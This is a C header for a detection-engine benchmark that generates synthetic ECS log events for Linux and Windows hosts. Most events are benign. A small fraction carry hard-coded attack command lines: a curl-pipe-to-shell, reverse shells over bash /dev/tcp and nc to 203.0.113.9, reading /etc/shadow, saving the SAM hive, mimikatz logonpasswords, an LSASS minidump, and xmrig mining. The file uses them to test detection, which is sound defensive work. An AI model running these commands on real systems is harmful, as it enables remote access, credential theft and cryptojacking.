/*
 * ecs_gen.h — generated ECS event lines for the line-rate benchmarks
 * (`bench_index gen-events`), included by bench_index.c and by
 * tests/unit/test_decode_diff.c (which decodes them both ways).
 *
 * What a host's stream looks like to an agent, not what a rule index
 * likes: Linux (about 70%) and Windows hosts, kinds in the proportions a
 * container host sends (process 35%, network 30%, dns 15%, file 20%),
 * ordinary process names, command lines, paths and domains, the fields
 * shippers add that no rule reads (ecs.version, agent.*, event.kind,
 * event.module, host.hostname, process.entity_id, ...), JSON escapes in
 * Windows paths and quoted command lines, and about one event in 100
 * taken from the default policies' own tests (a reverse shell, cat
 * /etc/shadow, reg save HKLM\SAM, a mining-pool port or domain, a binary
 * written below /usr/bin), so the findings path runs too.  Lines average
 * about 410 bytes.
 *
 * Each event is built once as an ordered list of dotted keys with their
 * JSON values and then written in one of the three layouts ECS shippers
 * produce:
 *   nested   {"process":{"parent":{"name":"bash"}}}         (Beats, Elastic Agent)
 *   dotted   {"process.parent.name":"bash"}                  (flattening collectors)
 *   mixed    per field group, nested, dotted at the top, or one level
 *            nested with the rest dotted: {"process":{"parent.name":"bash"}}
 * An event decodes to the same record whichever layout spells it, so a
 * file written with --layout nested, dotted or mixed (same seed) must get
 * the same decisions: tests/bench/runtime.sh checks that before it times
 * anything.  The default layout, "all", picks per event: half nested, a
 * quarter each dotted and mixed.
 *
 * Deterministic: the same N and layout give the same bytes on every run.
 */
#ifndef PALISADE_BENCH_ECS_GEN_H
#define PALISADE_BENCH_ECS_GEN_H

#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

enum { ECS_NESTED, ECS_DOTTED, ECS_MIXED, ECS_ALL };

typedef struct ecs_field {
    char key[48];
    char val[384];   /* JSON text of the value */
} ecs_field;

typedef struct ecs_event {
    ecs_field f[40];
    unsigned n;
} ecs_event;

static uint64_t ecs_rng = 0x9e3779b97f4a7c15ull;
static uint32_t ecs_rnd(uint32_t n)   /* xorshift64*, its own state: the index bench's stays as it was */
{
    ecs_rng ^= ecs_rng >> 12;
    ecs_rng ^= ecs_rng << 25;
    ecs_rng ^= ecs_rng >> 27;
    return (uint32_t)(((ecs_rng * 0x2545f4914f6cdd1dull) >> 32) % n);
}

static ecs_field *ecs_add(ecs_event *e, const char *key)
{
    if (e->n == sizeof e->f / sizeof e->f[0]) { fprintf(stderr, "ecs_gen: too many fields\n"); exit(1); }
    ecs_field *f = &e->f[e->n++];
    snprintf(f->key, sizeof f->key, "%s", key);
    return f;
}

/* a value given as JSON text: numbers, arrays */
static void ecs_raw(ecs_event *e, const char *key, const char *fmt, ...)
{
    ecs_field *f = ecs_add(e, key);
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(f->val, sizeof f->val, fmt, ap);
    va_end(ap);
}

/* s as a JSON string (quotes, backslashes and control bytes escaped) */
static size_t ecs_quote(char *out, size_t cap, const char *s)
{
    size_t o = 0;
    out[o++] = '"';
    for (; *s && o + 8 < cap; s++) {
        unsigned char c = (unsigned char)*s;
        if (c == '"' || c == '\\') { out[o++] = '\\'; out[o++] = (char)c; }
        else if (c < 0x20) o += (size_t)snprintf(out + o, cap - o, "\\u%04x", c);
        else out[o++] = (char)c;
    }
    out[o++] = '"';
    out[o] = 0;
    return o;
}

/* a string value, formatted, then quoted */
static void ecs_str(ecs_event *e, const char *key, const char *fmt, ...)
{
    char raw[320];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(raw, sizeof raw, fmt, ap);
    va_end(ap);
    ecs_field *f = ecs_add(e, key);
    ecs_quote(f->val, sizeof f->val, raw);
}

/* process.args: the command line split at spaces (at most 6), as an array */
static void ecs_args(ecs_event *e, const char *key, const char *cmd)
{
    ecs_field *f = ecs_add(e, key);
    size_t o = 0;
    f->val[o++] = '[';
    unsigned n = 0;
    const char *p = cmd;
    while (*p && n < 6 && o + 80 < sizeof f->val) {
        while (*p == ' ') p++;
        if (!*p) break;
        const char *q = p;
        while (*q && *q != ' ') q++;
        char tok[128];
        size_t l = (size_t)(q - p) < sizeof tok - 1 ? (size_t)(q - p) : sizeof tok - 1;
        memcpy(tok, p, l);
        tok[l] = 0;
        if (n++) f->val[o++] = ',';
        o += ecs_quote(f->val + o, sizeof f->val - o, tok);
        p = q;
    }
    f->val[o++] = ']';
    f->val[o] = 0;
}

/* ---- what the events say ---- */

typedef struct proc_shape {
    const char *name, *exe, *cmd, *pname, *pexe;
} proc_shape;

static const proc_shape linux_procs[] = {
    {"nginx", "/usr/sbin/nginx", "nginx: worker process", "nginx", "/usr/sbin/nginx"},
    {"python3", "/usr/bin/python3.11", "python3 /app/manage.py runserver 0.0.0.0:8000", "gunicorn", "/usr/local/bin/gunicorn"},
    {"java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -Xmx512m -jar /app/service.jar --spring.profiles.active=prod", "sh", "/bin/sh"},
    {"node", "/usr/local/bin/node", "node /srv/app/server.js --port 3000", "npm", "/usr/local/bin/npm"},
    {"sh", "/bin/sh", "sh -c /usr/local/bin/healthcheck.sh", "containerd-shim", "/usr/bin/containerd-shim-runc-v2"},
    {"curl", "/usr/bin/curl", "curl -fsS http://localhost:8080/health", "sh", "/bin/sh"},
    {"cat", "/bin/cat", "cat /etc/nginx/conf.d/default.conf", "bash", "/bin/bash"},
    {"postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: app appdb 10.0.3.4(53412) idle", "postgres", "/usr/lib/postgresql/15/bin/postgres"},
    {"grep", "/bin/grep", "grep -c ERROR /var/log/app/app.log", "bash", "/bin/bash"},
    {"redis-server", "/usr/local/bin/redis-server", "redis-server *:6379", "docker-init", "/sbin/docker-init"},
};
static const proc_shape linux_attacks[] = {
    {"sh", "/bin/sh", "sh -c curl -fsSL http://203.0.113.9/x.sh | sh", "bash", "/bin/bash"},
    {"bash", "/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "sh", "/bin/sh"},
    {"cat", "/bin/cat", "cat /etc/shadow", "bash", "/bin/bash"},
    {"nc", "/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444", "sh", "/bin/sh"},
    {"xmrig", "/tmp/.x/xmrig", "xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ --tls", "sh", "/bin/sh"},
};
static const proc_shape windows_procs[] = {
    {"svchost.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     "services.exe", "C:\\Windows\\System32\\services.exe"},
    {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\app\\health.ps1", "cmd.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir C:\\inetpub\\logs\\LogFiles", "CExecSvc.exe",
     "C:\\Windows\\System32\\CExecSvc.exe"},
    {"w3wp.exe", "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
     "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l \"webengine4.dll\"", "svchost.exe",
     "C:\\Windows\\System32\\svchost.exe"},
    {"dotnet.exe", "C:\\Program Files\\dotnet\\dotnet.exe", "\"C:\\Program Files\\dotnet\\dotnet.exe\" C:\\app\\Api.dll --urls http://+:80",
     "cmd.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"conhost.exe", "C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "cmd.exe",
     "C:\\Windows\\System32\\cmd.exe"},
};
static const proc_shape windows_attacks[] = {
    {"reg.exe", "C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save", "cmd.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"m.exe", "C:\\Users\\Public\\m.exe", "m.exe privilege::debug sekurlsa::logonpasswords exit", "cmd.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"rundll32.exe", "C:\\Windows\\System32\\rundll32.exe",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full", "powershell.exe",
     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},
};
#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

static const char *const dns_names[] = {
    "api.internal.example.com", "registry-1.docker.io", "www.googleapis.com", "db.prod.svc.cluster.local",
    "login.microsoftonline.com", "deb.debian.org", "redis.cache.svc.cluster.local", "s3.eu-west-1.amazonaws.com",
};
static const char *const dns_attacks[] = {"pool.supportxmr.com", "x7.oast.fun", "gulf.moneroocean.stream"};

/* the fields every event has: time, event, host, container, user, shipper */
static void ecs_common(ecs_event *e, unsigned j, bool win, const char *category, const char *type, const char *action)
{
    unsigned host = ecs_rnd(40), ctr = ecs_rnd(400);
    ecs_str(e, "@timestamp", "2026-11-23T%02u:%02u:%02u.%03uZ", 10 + j / 3600000 % 12, j / 60000 % 60, j / 1000 % 60, j % 1000);
    ecs_raw(e, "event.category", "[\"%s\"]", category);
    if (type) ecs_raw(e, "event.type", "[\"%s\"]", type);
    if (action) ecs_str(e, "event.action", "%s", action);

    ecs_str(e, "host.name", win ? "WIN-SRV%02u" : "node-%02u", host);
    ecs_str(e, "host.os.type", win ? "windows" : "linux");
    ecs_str(e, "container.id", "%08x%04x", 0x4c7a3e4bu + ctr * 7919u, ctr);
    ecs_str(e, "container.image.name", win ? "dotnet/aspnet:%u.%u" : "team%u/app%u:%u.%u", ctr % 9, ctr % 23, 1 + ctr % 4, ctr % 10);
    ecs_str(e, "user.name", win ? (ctr % 3 ? "ContainerUser" : "ContainerAdministrator") : (ctr % 3 ? "app" : "root"));
    ecs_str(e, "ecs.version", "8.11.0");
}

/* process.*: the whole process for a process event, its pid and name for
   the others (what Auditbeat's socket and file datasets carry) */
static void ecs_process_fields(ecs_event *e, const proc_shape *p, unsigned pid, bool whole, bool win)
{
    ecs_raw(e, "process.pid", "%u", pid);
    ecs_str(e, "process.name", "%s", p->name);
    if (!whole) return;
    ecs_str(e, "process.executable", "%s", p->exe);
    ecs_str(e, "process.command_line", "%s", p->cmd);
    if (!win) ecs_args(e, "process.args", p->cmd);   /* Winlogbeat's Sysmon events have no args */
    ecs_raw(e, "process.parent.pid", "%u", pid > 40 ? pid - 1 - ecs_rnd(40) : 1);
    ecs_str(e, "process.parent.name", "%s", p->pname);
}

/* Event j: its fields, in the order a shipper writes them. */
static void ecs_build(ecs_event *e, unsigned j)
{
    e->n = 0;
    bool win = ecs_rnd(10) < 3;
    bool attack = ecs_rnd(100) == 0;
    unsigned kind = ecs_rnd(20);   /* 0-6 process, 7-12 network, 13-15 dns, 16-19 file */
    unsigned pid = 200 + ecs_rnd(30000);
    const proc_shape *procs = win ? windows_procs : linux_procs;
    unsigned nprocs = win ? NELEM(windows_procs) : NELEM(linux_procs);
    const proc_shape *self = &procs[ecs_rnd(nprocs)];
    if (kind < 7) {
        if (attack) self = win ? &windows_attacks[ecs_rnd(NELEM(windows_attacks))] : &linux_attacks[ecs_rnd(NELEM(linux_attacks))];
        ecs_common(e, j, win, "process", "start", NULL);
        ecs_process_fields(e, self, pid, true, win);
    } else if (kind < 13) {
        ecs_common(e, j, win, "network", NULL, NULL);
        ecs_str(e, "network.direction", ecs_rnd(4) ? "outbound" : "inbound");
        ecs_str(e, "network.transport", ecs_rnd(8) ? "tcp" : "udp");
        ecs_process_fields(e, self, pid, false, win);
        ecs_str(e, "source.ip", "172.17.%u.%u", ecs_rnd(4), 2 + ecs_rnd(250));
        ecs_raw(e, "source.port", "%u", 32768 + ecs_rnd(28000));
        static const unsigned ports[] = {443, 5432, 6379, 8080, 53, 9200, 80, 3306};
        if (attack) {
            ecs_str(e, "destination.ip", "203.0.113.%u", 1 + ecs_rnd(254));
            ecs_raw(e, "destination.port", "%u", ecs_rnd(2) ? 3333 : 6667);
        } else {
            ecs_str(e, "destination.ip", "10.%u.%u.%u", ecs_rnd(8), ecs_rnd(256), 1 + ecs_rnd(254));
            ecs_raw(e, "destination.port", "%u", ports[ecs_rnd(NELEM(ports))]);
        }
    } else if (kind < 16) {
        ecs_common(e, j, win, "network", NULL, NULL);
        ecs_str(e, "network.protocol", "dns");
        ecs_str(e, "network.transport", "udp");
        ecs_process_fields(e, self, pid, false, win);
        ecs_str(e, "dns.question.name", "%s", attack ? dns_attacks[ecs_rnd(NELEM(dns_attacks))] : dns_names[ecs_rnd(NELEM(dns_names))]);
        ecs_str(e, "dns.question.type", ecs_rnd(4) ? "A" : "AAAA");
    } else {
        static const char *const actions[] = {"creation", "modification", "modification", "deletion"};
        ecs_common(e, j, win, "file", NULL, actions[ecs_rnd(4)]);
        ecs_process_fields(e, self, pid, false, win);
        unsigned n = ecs_rnd(100000);
        if (attack && win) {
            ecs_str(e, "file.path", "C:\\Windows\\System32\\wbem\\wmi%u.dll", n);
            ecs_str(e, "file.name", "wmi%u.dll", n);
            ecs_str(e, "file.extension", "dll");
        } else if (attack) {
            ecs_str(e, "file.path", "/usr/bin/ps%u", n % 10);
            ecs_str(e, "file.name", "ps%u", n % 10);
        } else if (win) {
            ecs_str(e, "file.path", "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex2611%02u_%u.log", n % 30, n);
            ecs_str(e, "file.name", "u_ex2611%02u_%u.log", n % 30, n);
            ecs_str(e, "file.extension", "log");
        } else {
            static const char *const dirs[] = {"/var/log/app", "/tmp", "/app/cache", "/var/lib/postgresql/data/base"};
            const char *d = dirs[ecs_rnd(NELEM(dirs))];
            ecs_str(e, "file.path", "%s/%u.dat", d, n);
            ecs_str(e, "file.name", "%u.dat", n);
            ecs_str(e, "file.extension", "dat");
        }
    }
}

/* ---- the layouts ---- */

/* Writes the fields of e whose key starts with prefix (plen bytes, ending
   in '.', or 0 for the top) as the members of one object, each group
   nested up to `depth` more levels (after that its keys stay dotted).
   At the top level in the mixed layout, each group gets its own depth. */
static void ecs_emit(FILE *out, const ecs_event *e, bool *done, const char *prefix, size_t plen, int depth, bool mixed)
{
    bool first = true;
    for (unsigned i = 0; i < e->n; i++) {
        if (done[i] || strncmp(e->f[i].key, prefix, plen)) continue;
        const char *rest = e->f[i].key + plen;
        const char *dot = strchr(rest, '.');
        int d = depth;
        if (mixed && dot) {
            /* per group, from its name: nested, dotted, one level nested */
            unsigned h = 0;
            for (const char *c = rest; c < dot; c++) h = h * 31 + (unsigned char)*c;
            unsigned m = (h + ecs_rnd(3)) % 3;
            d = m == 0 ? 99 : m == 1 ? 0 : 1;
        }
        fputs(first ? "" : ",", out);
        first = false;
        if (!dot || d == 0) {
            fprintf(out, "\"%s\":%s", rest, e->f[i].val);
            done[i] = true;
            continue;
        }
        /* a group: every later field under the same name joins it */
        char sub[64];
        size_t sl = plen + (size_t)(dot - rest) + 1;
        if (sl >= sizeof sub) sl = sizeof sub - 1;
        memcpy(sub, e->f[i].key, sl);
        sub[sl] = 0;
        fprintf(out, "\"%.*s\":{", (int)(dot - rest), rest);
        ecs_emit(out, e, done, sub, sl, d - 1, false);
        fputc('}', out);
    }
}

static void ecs_write(FILE *out, const ecs_event *e, int layout)
{
    bool done[sizeof e->f / sizeof e->f[0]] = {false};
    fputc('{', out);
    if (layout == ECS_DOTTED) ecs_emit(out, e, done, "", 0, 0, false);
    else ecs_emit(out, e, done, "", 0, layout == ECS_MIXED ? 0 : 99, layout == ECS_MIXED);
    fputs("}\n", out);
}

/* N lines to out; layout ECS_ALL picks one per event. */
static void ecs_generate(FILE *out, unsigned n, int layout)
{
    ecs_event *e = calloc(1, sizeof *e);
    if (!e) { fprintf(stderr, "ecs_gen: out of memory\n"); exit(1); }
    ecs_rng = 0x9e3779b97f4a7c15ull;
    uint64_t layout_rng = 0x853c49e6748fea9bull;
    for (unsigned j = 0; j < n; j++) {
        ecs_build(e, j);
        int l = layout;
        if (l == ECS_ALL) {
            /* a separate stream, so the content is the same in every layout */
            layout_rng ^= layout_rng >> 12;
            layout_rng ^= layout_rng << 25;
            layout_rng ^= layout_rng >> 27;
            unsigned r = (unsigned)(((layout_rng * 0x2545f4914f6cdd1dull) >> 32) % 4);
            l = r < 2 ? ECS_NESTED : r == 2 ? ECS_DOTTED : ECS_MIXED;
        }
        /* the mixed layout draws from ecs_rng for its groups: keep the
           content stream independent of the layout */
        uint64_t keep = ecs_rng;
        ecs_write(out, e, l);
        ecs_rng = keep;
    }
    free(e);
}

#endif
